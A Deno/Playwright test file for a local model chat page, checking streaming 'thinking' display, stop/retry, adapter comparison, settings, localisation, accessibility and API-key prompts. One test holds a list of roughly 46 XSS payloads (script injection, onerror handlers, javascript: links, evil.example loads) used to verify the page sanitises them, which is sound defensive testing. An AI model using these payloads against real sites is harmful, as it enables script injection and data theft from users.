/** The chat page in a browser: what it shows while a reply comes, what it keeps, and that it is safe. */

import assert from "node:assert/strict";
import { type Browser, type BrowserContext, chromium, type Page } from "playwright-core";
import { CHROMIUM, chromiumPath } from "./support/chromium.ts";
import {
  type Script,
  scriptedServer,
  type ScriptedServerOptions,
} from "./support/scripted_server.ts";

/** One browser for all tests, and what a test waits for at most. */
let browser: Browser | undefined;
const PATIENCE = 15_000;

interface OpenPage extends AsyncDisposable {
  readonly page: Page;
  readonly context: BrowserContext;
  readonly server: Awaited<ReturnType<typeof scriptedServer>>;
  /** Requests to anything but the server. */
  readonly foreign: string[];
  /** What the page complained about: errors, refused scripts, dialogs. */
  readonly complaints: string[];
}

async function open(
  script: Script,
  { locale = "en-US", ...options }: ScriptedServerOptions & { readonly locale?: string } = {},
): Promise<OpenPage> {
  browser ??= await chromium.launch({
    executablePath: await chromiumPath(),
    args: ["--no-sandbox"],
  });
  const server = await scriptedServer(script, options);
  const context = await browser.newContext({ locale, permissions: ["clipboard-write"] });
  const page = await context.newPage();
  page.setDefaultTimeout(PATIENCE);
  const foreign: string[] = [];
  const complaints: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(server.url)) foreign.push(request.url());
  });
  page.on("pageerror", (error) => complaints.push(error.message));
  page.on("console", (message) => {
    if (["error", "warning"].includes(message.type())) complaints.push(message.text());
  });
  page.on("dialog", (dialog) => {
    complaints.push(`dialog ${dialog.message()}`);
    dialog.dismiss();
  });
  await page.goto(server.url);
  return {
    page,
    context,
    server,
    foreign,
    complaints,
    async [Symbol.asyncDispose](): Promise<void> {
      await context.close();
      await server[Symbol.asyncDispose]();
    },
  };
}

function test(name: string, fn: () => Promise<void>): void {
  Deno.test({
    name: `chat page: ${name} (needs chromium)`,
    ignore: CHROMIUM === undefined,
    // The browser is shared, and closed at the end of the file.
    sanitizeOps: false,
    sanitizeResources: false,
    fn,
  });
}

async function ask(page: Page, question: string): Promise<void> {
  await until(page, "document.querySelector('#model').value !== ''");
  await page.fill("#question", question);
  await page.press("#question", "Enter");
}

/** Waits until an expression is true. Playwright's own way would evaluate in the page, which refuses. */
async function until(page: Page, expression: string): Promise<void> {
  const deadline = performance.now() + PATIENCE;
  while (await page.evaluate(expression) !== true) {
    assert.ok(performance.now() < deadline, `never true: ${expression}`);
    await page.waitForTimeout(50);
  }
}

/** Texts of elements without the blanks around them. */
async function texts(page: Page, selector: string): Promise<string[]> {
  return (await page.locator(selector).allTextContents()).map((text) => text.trim());
}

/** Waits for the last turn's replies. */
async function answered(page: Page): Promise<void> {
  await page.waitForSelector("#send:not([hidden])");
  await page.waitForSelector(".turn:last-child article[aria-busy='false'] .tools:not([hidden])");
}

/** A promise and what keeps it. */
function gate(): { readonly passed: Promise<void>; open(): void } {
  const { promise, resolve } = Promise.withResolvers<void>();
  return { passed: promise, open: resolve };
}

test("thinking is open and timed while it comes, and closes for the answer", async () => {
  const [thought, said] = [gate(), gate()];
  await using opened = await open(async function* () {
    yield "<think>Rest helps.";
    await thought.passed;
    yield "</think>Lie **down**.\n\n- one\n- two";
    await said.passed;
    yield "\n- three";
  });
  const { page, foreign, complaints } = opened;
  await ask(page, "Hi");
  await page.waitForSelector("details.think[open].live");
  assert.equal(await page.textContent(".thought"), "Rest helps.");
  assert.match((await page.textContent("summary"))!, /^Thinking… \d+\.\d s$/);
  await until(
    page,
    "parseFloat(/\\d+\\.\\d/.exec(document.querySelector('summary').textContent)) >= 0.5",
  );
  assert.equal(await page.getAttribute("article", "aria-busy"), "true");
  thought.open();
  await page.waitForSelector("details.think:not([open])");
  assert.match((await page.textContent("summary"))!, /^Thought for \d+\.\d s$/);
  await page.waitForSelector(".answer strong");
  assert.equal(await page.locator(".answer li").count(), 2);
  // Opened by hand it stays so.
  await page.click("summary");
  said.open();
  await answered(page);
  assert.equal(await page.locator(".answer li").count(), 3);
  assert.equal(await page.locator("details.think[open]").count(), 1);
  assert.match((await page.textContent(".note"))!, /^\d+ tokens · [\d.]+ tokens\/s$/);
  assert.equal(await page.textContent("#status"), "The answer is complete.");
  assert.deepEqual([foreign, complaints], [[], []]);
});

test("stop ends a reply at the server, and retry makes it anew", async () => {
  let asked = 0;
  await using opened = await open(async function* (_, { signal }) {
    asked++;
    while (asked < 3 && !signal!.aborted) {
      yield "word ";
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    yield "done";
  });
  const { page, server, complaints } = opened;
  await ask(page, "Hi");
  await page.waitForSelector(".answer :text('word word')");
  await page.click("#stop");
  await answered(page);
  assert.match((await page.textContent(".note"))!, /Stopped/);
  const deadline = performance.now() + 5000;
  while (server.left < 1 && performance.now() < deadline) await page.waitForTimeout(10);
  assert.equal(server.left, 1);
  // Escape is the same.
  await page.click(".retry");
  await page.waitForSelector(".answer :text('word word')");
  await page.keyboard.press("Escape");
  await answered(page);
  await page.click(".retry");
  await answered(page);
  assert.deepEqual(await texts(page, ".answer"), ["done"]);
  assert.equal(asked, 3);
  assert.deepEqual(complaints, []);
});

/** What must not run, load or take over the page, as an answer or a thought may hold it. */
const HOSTILE: readonly string[] = [
  "<script>pwned=1</script>",
  "</script><script>pwned=1</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=pwned=1>",
  "<img src='https://evil.example/p.png'>",
  "![x](https://evil.example/p.png)",
  '![x](x" onerror="pwned=1)',
  "[![x](https://evil.example/p.png)](https://evil.example)",
  "<svg onload=pwned=1>",
  "<svg><script>pwned=1</script></svg>",
  "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
  "<iframe src=javascript:pwned=1></iframe>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action=https://evil.example><input name=q autofocus onfocus=pwned=1></form>",
  "<details open ontoggle=pwned=1><summary>x</summary></details>",
  "<body onload=pwned=1>",
  "<video><source onerror=pwned=1></video><audio src=https://evil.example/a autoplay>",
  "<a href='javascript:pwned=1'>x</a>",
  "[x](javascript:pwned=1)",
  "[x](JaVaScRiPt:pwned=1)",
  "[x](java\tscript:pwned=1)",
  "[x](&#106;avascript:pwned=1)",
  "[x](data:text/html,<script>pwned=1</script>)",
  "[x](vbscript:msgbox)",
  "[x](//evil.example)",
  "<javascript:pwned=1>",
  "[x]: javascript:pwned=1\n\n[x]",
  "[x](https://ok.example 'a\" onmouseover=\"pwned=1')",
  "```html\n<img src=x onerror=pwned=1>\n```",
  '```"><img src=x onerror=pwned=1>\ncode\n```',
  "`<img src=x onerror=pwned=1>`",
  "| <img src=x onerror=pwned=1> |\n|---|\n| <script>pwned=1</script> |",
  "<x id=log name=cookie class=primary style='position:fixed;inset:0'>y</x>",
  "<div id=question></div><a id=stop name=stop>x</a>",
  "{{constructor.constructor('pwned=1')()}}",
  "\u202e<b>bidi</b>\u0000<i>nul</i>",
  "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
  "<template><script>pwned=1</script></template>",
  "<!--><img src=x onerror=pwned=1>-->",
  '<a href="https://ok.example" target=_self ping=https://evil.example>x</a>',
];

test(`${HOSTILE.length} hostile texts stay text as question, thought and answer`, async () => {
  let text = "";
  await using opened = await open(async function* () {
    yield `<think>${text.replaceAll("</think>", "")}`;
    yield "</think>";
    // In pieces, so that half-written markup is rendered, too.
    for (let at = 0; at < text.length; at += 7) {
      yield text.slice(at, at + 7).toWellFormed();
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
  });
  const { page, foreign, complaints, server } = opened;
  const check = async (): Promise<void> => {
    const found = await page.evaluate(() => {
      const allowed = new Set(
        ("P BR HR STRONG EM DEL CODE PRE BLOCKQUOTE A H1 H2 H3 H4 H5 H6 UL OL LI TABLE THEAD " +
          "TBODY TR TH TD DIV BUTTON").split(" "),
      );
      const attributes = new Set(["href", "start", "align", "target", "rel", "tabindex"]);
      const wrong: string[] = [];
      // deno-lint-ignore no-explicit-any -- the browser's, which Deno's types do not know
      const root = globalThis as any;
      for (const each of root.document.querySelectorAll(".answer *")) {
        if (!allowed.has(each.tagName)) wrong.push(each.tagName);
        for (const { name, value } of each.attributes) {
          const own = ["class", "type"].includes(name) && ["DIV", "BUTTON"].includes(each.tagName);
          if (!own && !attributes.has(name)) wrong.push(`${each.tagName} ${name}=${value}`);
        }
        const href = each.getAttribute("href");
        if (href !== null && !/^(https?:|mailto:)/.test(href)) wrong.push(href);
      }
      for (const each of root.document.querySelectorAll(".question p *, .thought *")) {
        wrong.push(`${each.tagName} in text`);
      }
      return { wrong, pwned: root.pwned ?? null };
    });
    assert.deepEqual(found, { wrong: [], pwned: null }, text);
  };
  for (text of HOSTILE) {
    await ask(page, text);
    await page.waitForSelector(".answer");
    await check();
    await answered(page);
    await check();
    assert.equal(await page.textContent(".turn:last-child .question p"), text);
    assert.ok(await page.isVisible("#question"), text);
  }
  // And as they come back from where the browser keeps them.
  await page.reload();
  await until(page, `document.querySelectorAll('.turn').length === ${HOSTILE.length}`);
  await check();
  for (const link of await page.locator(".answer a").all()) {
    assert.equal(await link.getAttribute("rel"), "noopener noreferrer nofollow");
    assert.equal(await link.getAttribute("target"), "_blank");
  }
  assert.deepEqual([foreign, complaints, server.errors], [[], [], []]);
});

test("base and adapter answer side by side, each from its own words", async () => {
  const prompts: string[] = [];
  await using opened = await open(async function* (prompt, { model }) {
    prompts.push(`${model}: ${prompt}`);
    yield `I am ${model}.`;
  }, { models: ["base", "lora"] });
  const { page } = opened;
  await ask(page, "Who?");
  await answered(page);
  await until(page, "document.querySelectorAll('.answer p').length === 2");
  assert.deepEqual(await texts(page, ".answer"), ["I am base.", "I am lora."]);
  await ask(page, "Sure?");
  await until(page, "document.querySelectorAll('.answer p').length === 4");
  for (const model of ["base", "lora"]) {
    const prompt = prompts.findLast((each) => each.startsWith(`${model}:`))!;
    assert.match(prompt, new RegExp(`Who\\?[^]*I am ${model}\\.[^]*Sure\\?`));
  }
  await page.waitForSelector("#send:not([hidden])");
  await page.selectOption("#model", "lora");
  await ask(page, "Alone?");
  await answered(page);
  assert.equal(await page.locator(".turn:last-child article").count(), 1);
});

test("a base and two adapters answer in three columns, and one above the other on a phone", async () => {
  await using opened = await open(async function* (_, { model }) {
    yield `I am ${model}.`;
  }, { models: ["base", "first", "second"] });
  const { page } = opened;
  assert.match(
    await page.locator("#model option:checked").innerText(),
    /^base \| first \| second,/,
  );
  await ask(page, "Who?");
  await until(page, "document.querySelectorAll('.answer p').length === 3");
  assert.deepEqual(await texts(page, ".answer"), ["I am base.", "I am first.", "I am second."]);
  const places = () =>
    page.locator(".reply").evaluateAll((all) =>
      all.map((each) => {
        const { x, y } = each.getBoundingClientRect();
        return [Math.round(x), Math.round(y)];
      })
    );
  const wide = await places();
  assert.equal(new Set(wide.map(([, y]) => y)).size, 1);
  await page.setViewportSize({ width: 390, height: 800 });
  const narrow = await places();
  assert.equal(new Set(narrow.map(([x]) => x)).size, 1);
});

test("settings reach the server, and chats and settings outlive the page", async () => {
  const asked: {
    prompt: string;
    temperature?: number;
    topK?: number;
    maxNewTokens?: number;
    seed?: number;
  }[] = [];
  await using opened = await open(async function* (prompt, options) {
    const { temperature, topK, maxNewTokens, seed } = options;
    asked.push({ prompt, temperature, topK, maxNewTokens, seed });
    yield "ok";
  });
  const { page } = opened;
  await page.click("#settings");
  await page.fill("#system", "Be brief");
  await page.uncheck("#thinking");
  for (
    const [id, value] of Object.entries({
      temperature: "0.5",
      topK: "7",
      maxTokens: "9",
      seed: "3",
    })
  ) {
    await page.fill(`#${id}`, value);
  }
  await page.click("#close");
  await ask(page, "First question");
  await answered(page);
  assert.deepEqual(asked, [{
    prompt: "<|im_start|>system\nBe brief<|im_end|>\n<|im_start|>user\nFirst question<|im_end|>\n" +
      "<|im_start|>assistant\n<think>\n\n</think>\n\n",
    temperature: 0.5,
    topK: 7,
    maxNewTokens: 9,
    seed: 3,
  }]);
  await page.click("#new");
  await ask(page, "Second question");
  await answered(page);
  await page.reload();
  await page.waitForSelector(".chat");
  assert.deepEqual(await page.locator(".chat").allTextContents(), [
    "Second question",
    "First question",
  ]);
  await page.click(".chat:text('First question')");
  assert.equal(await page.textContent(".question p"), "First question");
  assert.deepEqual(await texts(page, ".answer"), ["ok"]);
  await page.click("#settings");
  assert.equal(await page.inputValue("#system"), "Be brief");
  await page.click("#reset");
  assert.equal(await page.inputValue("#temperature"), "");
  await page.keyboard.press("Escape");
  await page.hover("li:has-text('Second question')");
  await page.click("[aria-label='Delete “Second question”']");
  assert.deepEqual(await page.locator(".chat").allTextContents(), ["First question"]);
  // What is no chat is passed over.
  await page.addInitScript(() =>
    localStorage.setItem("ortune.chats", '[{"turns":[{"question":5}]},7]')
  );
  await page.reload();
  await page.waitForSelector(".welcome");
});

test("the system prompt of the model that is asked is a chip, which leads to its setting", async () => {
  const prompts: string[] = [];
  await using opened = await open(async function* (prompt) {
    prompts.push(prompt);
    yield "ok";
  }, { models: ["base", "lora"], systems: { lora: "Be a doctor" } });
  const { page, complaints } = opened;
  await until(page, "document.querySelector('#model').value !== ''");
  assert.equal(await page.textContent("#prompt"), "System prompt: each model’s own");
  await page.selectOption("#model", "lora");
  assert.equal(await page.textContent("#prompt"), "System prompt: Be a doctor");
  await page.selectOption("#model", "base");
  assert.equal(await page.isVisible("#prompt"), false);
  await page.selectOption("#model", "lora");
  await ask(page, "Hi");
  await answered(page);
  assert.match(prompts[0], /^<\|im_start\|>system\nBe a doctor<\|im_end\|>/);
  await page.click("#prompt");
  await page.fill("#system", "Be brief");
  await page.click("#close");
  assert.equal(await page.textContent("#prompt"), "System prompt: Be brief");
  assert.deepEqual(complaints, []);
});

test("an empty chat offers questions, of the data where they were kept", async () => {
  const asked: string[] = [];
  const script: Script = async function* (prompt) {
    asked.push(prompt);
    yield "ok";
  };
  {
    await using opened = await open(script, { locale: "zh-CN" });
    const { page } = opened;
    await until(page, "document.querySelector('#model').value !== ''");
    assert.equal(await page.locator(".example").count(), 4);
    assert.match((await texts(page, ".example"))[0], /天空/);
    await page.click("#language");
    assert.match((await texts(page, ".example"))[0], /sky/);
  }
  await using opened = await open(script, { examples: ["头痛怎么办？", "<b>x</b>"] });
  const { page, complaints } = opened;
  await page.waitForSelector(".example:text('头痛')");
  assert.deepEqual(await texts(page, ".example"), ["头痛怎么办？", "<b>x</b>"]);
  await page.click(".example:text('头痛')");
  await answered(page);
  assert.equal(await page.textContent(".question p"), "头痛怎么办？");
  assert.equal(await page.locator(".example").count(), 0);
  assert.match(asked[0], /头痛怎么办？/);
  assert.deepEqual(complaints, []);
});

test("it speaks Chinese and English, to eyes, keyboards and screen readers", async () => {
  await using opened = await open(async function* () {
    yield "好";
  }, { locale: "zh-CN" });
  const { page, complaints } = opened;
  assert.equal(await page.getAttribute("html", "lang"), "zh-CN");
  assert.equal(await page.textContent(".welcome h2"), "想了解什么？");
  // Everything that can be operated has a name, and everything filled in a label.
  const nameless = await page.evaluate(() => {
    // deno-lint-ignore no-explicit-any -- the browser's
    const { document } = globalThis as any;
    return [...document.querySelectorAll("button, input, select, textarea")].filter((each) =>
      !(each.textContent.trim() && each.tagName === "BUTTON") && !each.getAttribute("aria-label") &&
      !each.labels?.length
    ).map(({ outerHTML }) => outerHTML);
  });
  assert.deepEqual(nameless, []);
  // From the top by the keyboard alone: the first stop leads to the question.
  await page.evaluate("document.body.tabIndex = -1; document.body.focus()");
  await page.keyboard.press("Tab");
  assert.equal(await page.evaluate("document.activeElement.className"), "skip");
  await page.keyboard.press("Enter");
  assert.equal(await page.evaluate("document.activeElement.id"), "question");
  await until(page, "document.querySelector('#model').value !== ''");
  await page.keyboard.type("一");
  await page.keyboard.press("Shift+Enter");
  await page.keyboard.type("二");
  assert.equal(await page.inputValue("#question"), "一\n二");
  // Enter that ends the choice of a character sends nothing.
  await page.dispatchEvent("#question", "keydown", { key: "Enter", isComposing: true });
  assert.equal(await page.locator(".turn").count(), 0);
  await page.keyboard.press("Enter");
  await answered(page);
  assert.equal(await page.evaluate("document.activeElement.id"), "question");
  assert.equal(await page.textContent("#status"), "回答完毕。");
  await page.click("#language");
  assert.equal(await page.getAttribute("html", "lang"), "en");
  assert.equal(await page.textContent("#new"), "New chat");
  assert.equal(await page.textContent(".retry"), "Retry");
  await page.reload();
  assert.equal(await page.getAttribute("html", "lang"), "en");
  assert.deepEqual(complaints, []);
});

test("on a phone nothing is cut or wrapped, and the list of chats closes again", async () => {
  await using opened = await open(async function* () {
    yield "| drug | dose |\n|---|---|\n| " + "long".repeat(20) + " | 1 mg |\n\n";
    yield "- [x] done\n\n```\n" + "code ".repeat(30) + "\n```\n";
  }, { locale: "zh-CN", models: ["a-long-name-of-a-base-model", "and-of-its-adapter"] });
  const { page, complaints } = opened;
  await page.setViewportSize({ width: 390, height: 844 });
  await ask(page, "一");
  await answered(page);
  assert.equal(await page.evaluate("document.documentElement.scrollWidth"), 390);
  // One line each.
  for (const id of ["menu", "model", "settings"]) {
    const { height } = (await page.locator(`#${id}`).boundingBox())!;
    assert.ok(height < 48, `${id} is ${height} pixels high`);
  }
  const box = async (selector: string) => (await page.locator(selector).first().boundingBox())!;
  assert.ok((await box("th")).height < 48, "the table's heading is on one line");
  const [button, code] = [await box(".code button"), await box(".code code")];
  assert.ok(button.y + button.height <= code.y, "the code is beneath its button");
  assert.equal((await page.locator(".answer li").first().textContent())!.trim(), "☑ done");
  const list = page.locator("#sidebar");
  const closings = [
    () => page.keyboard.press("Escape"),
    () => page.click("#menu"),
    () => page.mouse.click(380, 400),
    () => page.click(".chat"),
  ];
  for (const close of closings) {
    await page.click("#menu");
    assert.equal(await list.isVisible(), true);
    assert.equal(await page.getAttribute("#menu", "aria-expanded"), "true");
    await close();
    assert.equal(await list.isVisible(), false);
    assert.equal(await page.getAttribute("#menu", "aria-expanded"), "false");
  }
  assert.deepEqual(complaints, []);
});

test("it asks for the server's key, and says what went wrong", async () => {
  await using opened = await open(async function* () {
    yield "half ";
    throw new Error("broken");
  }, { apiKey: "s3cret" });
  const { page } = opened;
  await page.waitForSelector("#key-dialog[open]");
  assert.equal(await page.isVisible("#key-problem"), false);
  // Put off, it comes back with the question, which stays.
  await page.keyboard.press("Escape");
  await page.fill("#question", "Hi");
  await page.press("#question", "Enter");
  await page.waitForSelector("#key-dialog[open]");
  assert.equal(await page.inputValue("#question"), "Hi");
  await page.fill("#key", "wrong");
  await page.keyboard.press("Enter");
  await page.waitForSelector("#key-problem:not([hidden])");
  await page.fill("#key", "s3cret");
  await page.keyboard.press("Enter");
  await ask(page, "Hi");
  await page.waitForSelector(".problem:not([hidden])");
  assert.match((await page.textContent(".problem"))!, /the server failed/);
  assert.deepEqual(await texts(page, ".answer"), ["half"]);
});

Deno.test({
  name: "chat page: the browser is closed",
  ignore: CHROMIUM === undefined,
  sanitizeOps: false,
  sanitizeResources: false,
  fn: async () => await browser?.close(),
});
